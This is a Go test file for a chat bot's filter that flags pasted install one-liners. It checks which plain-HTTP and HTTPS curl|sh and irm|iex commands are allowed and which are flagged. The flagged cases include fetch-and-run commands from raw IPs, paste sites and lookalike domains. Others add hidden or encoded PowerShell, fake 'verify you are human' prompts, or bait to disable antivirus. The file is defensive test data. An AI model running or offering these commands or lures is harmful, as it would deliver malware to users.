package bot_test

import "testing"

// TestPlainHTTPOneLinersReadAsTwins: a project's install one-liner or
// install script written over plain HTTP, on a clean name with nothing
// baiting around it, is judged as its HTTPS twin and allowed (each was
// deleted as run_command or dangerous_file before cmd42). None of these
// lines is in the cmd42 sets.
func TestPlainHTTPOneLinersReadAsTwins(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"curl -fsSL http://deno.com/install.sh | sh", false},
		{"curl -fsSL http://bun.sh/install | bash -s -- bun-v1.2.0", false},
		{"irm http://get.scoop.sh | iex then scoop install git", false},
		{"curl -sfL http://get.k3s.io | sh -s - --write-kubeconfig-mode 644", false},
		{"iex ((New-Object System.Net.WebClient).DownloadString('http://chocolatey.org/install.ps1'))", false},
		{"curl -sSL http://install.python-poetry.org | python3 - --version 1.8.3", false},
		{"curl -fsSL http://tailscale.com/install.sh | sh -s -- --help", false},
		{"the windows script http://astral.sh/uv/install.ps1", false},
		{"the bash one is http://dot.net/v1/dotnet-install.sh", false},
	})
}

// TestPlainHTTPOneLinersNotReadAsTwins: every attack shape over plain HTTP
// stays flagged, with or without the reading: fake checks, hidden or
// encoded PowerShell, mshta, an address, a port, a dynamic DNS name, a
// file drop, a paste site, a cheap ending, installers' lookalikes (a name
// taking theirs, their domain before another, one edit from theirs), a
// name drawn at random, a lure or bait beside the command, an install
// script linked bare by a message that does not speak of it as a script
// (a drop's "new version", "install this update"). The lines
// marked "twin allowed" are allowed written https:// and fail without
// the plain-HTTP checks of httpInstallTwin.
func TestPlainHTTPOneLinersNotReadAsTwins(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"Verify you are human: press Win+R and paste powershell -c \"irm http://bun.sh/install.ps1 | iex\"", true},
		{"powershell -w hidden -c \"irm http://get.scoop.sh | iex\"", true},
		{"powershell -nop -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA= ; irm http://get.scoop.sh | iex", true},
		// bun.sh: tailscale.com is a protected brand's own domain
		// since infra45, trusted as every brand's is
		{"mshta http://bun.sh/install.hta", true},
		{"curl -fsSL http://45.137.21.9/install.sh | sh", true},
		{"curl -fsSL http://get.example-tools.com:8080/install.sh | sh", true},
		{"curl -fsSL http://k3s-mirror.duckdns.org/install.sh | sh", true},
		{"curl -s http://transfer.sh/k2x9/install.sh | bash", true},
		{"curl -s http://pastebin.com/raw/Q8mN2kLz | bash", true},
		{"curl -fsSL http://devsetup.top/install.sh | bash", true},
		{"curl -fsSL http://get.k3s.io.mirror-cdn.net | sh -", true},               // twin allowed
		{"curl -fsSL http://bunsh.net/install | bash", true},                       // twin allowed
		{"curl -fsSL http://tailscalle.com/install.sh | sh", true},                 // twin allowed
		{"curl -fsSL http://ollama-ai.net/install.sh | sh", true},                  // twin allowed
		{"/bin/bash -c \"$(curl -fsSL http://brewinstall.app/install.sh)\"", true}, // twin allowed
		{"irm http://x7q2k.net | iex", true},
		{"new version http://lanternworks.net/assets/install.sh", true},
		{"install this update http://brookfieldvet.com/files/setup.sh", true}, // twin allowed
		{"free nitro for everyone who runs this: irm http://nitrogift.net/claim | iex", true},
		{"@everyone new mod menu: iwr http://modloader.net/menu.ps1 | iex", true},
	})
}

// TestPlainHTTPTwinAntivirusBait: a plain-HTTP one-liner sent with words
// that get it past the reader's antivirus (bypass it, turn AV,
// SmartScreen, UAC, real-time protection or Windows Security off) is
// bait and not read as its HTTPS twin (rev42c; each was allowed on
// a861340, deleted before cmd42). None is in the cmd42 sets.
func TestPlainHTTPTwinAntivirusBait(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"bypass the antivirus first, then run irm http://gamecheats-hub.com/install.ps1 | iex", true},
		{"disable smartscreen and UAC then run powershell irm http://fpsboost-tool.com/install.ps1 | iex", true},
		{"disable real-time protection then irm http://win-tweaks.com/install.ps1 | iex", true},
		{"bypass AV first: curl -s http://kernel-patch.org/install.sh | sudo bash", true},
		{"disable windows security, then: irm http://loaderhub.net/install.ps1 | iex", true},
		{"curl -fsSL http://tailscale.com/install.sh | sh, the antivirus never complained", false},
	})
}

// TestPlainHTTPInstallTwinAnyCase: the scheme is read in any case, as
// dl42's twin reads it (rev42a): HTTP:// and Http:// one-liners from a
// project's own name are their HTTPS twins (deleted on a861340), and
// a lookalike or a cheap ending written so is still deleted (rev42c).
func TestPlainHTTPInstallTwinAnyCase(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"curl -fsSL HTTP://tailscale.com/install.sh | sh", false},
		{"irm Http://get.scoop.sh | iex", false},
		{"curl -fsSL HTTP://devsetup.top/install.sh | bash", true},
		{"curl -fsSL HTTP://bunsh.net/install | bash", true},
	})
}

// TestPastedCommandAntivirusBait: a one-liner over TLS from a plain site
// sent with words that turn the antivirus off or get past it first is
// flagged as a lure's command is (rev42c: each was allowed on a861340,
// and on f64695f); a project's one-liner that speaks of the antivirus
// otherwise is not.
func TestPastedCommandAntivirusBait(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"disable windows defender first, then run irm https://gamecheats-hub.com/install.ps1 | iex", true},
		{"turn off your antivirus then: irm https://modmenu-hub.com/install.ps1 | iex", true},
		{"bypass the antivirus first, then run irm https://gamecheats-hub.com/install.ps1 | iex", true},
		{"disable smartscreen then curl -s https://kernel-patch.org/install.sh | sudo bash", true},
		{"curl -fsSL https://tailscale.com/install.sh | sh and the antivirus never complained", false},
		{"irm https://get.scoop.sh | iex, defender scans it fine", false},
	})
}

// TestPlainHTTPInstallTwinNameFindings: an install script on a name with
// lure words built into it (a domain_words finding) is not read as its
// HTTPS twin, even where a message speaks of it as a script (rev42c:
// allowed on a861340).
func TestPlainHTTPInstallTwinNameFindings(t *testing.T) {
	t.Parallel()
	checkFlagged(t, []flagCase{
		{"the shell script for the fix http://nvidia-driver-update.com/setup.sh", true},
		{"the script for the crash http://docker-fix.net/install.sh", true},
		{"the tailscale script http://tailscale.com/install.sh", false},
	})
}
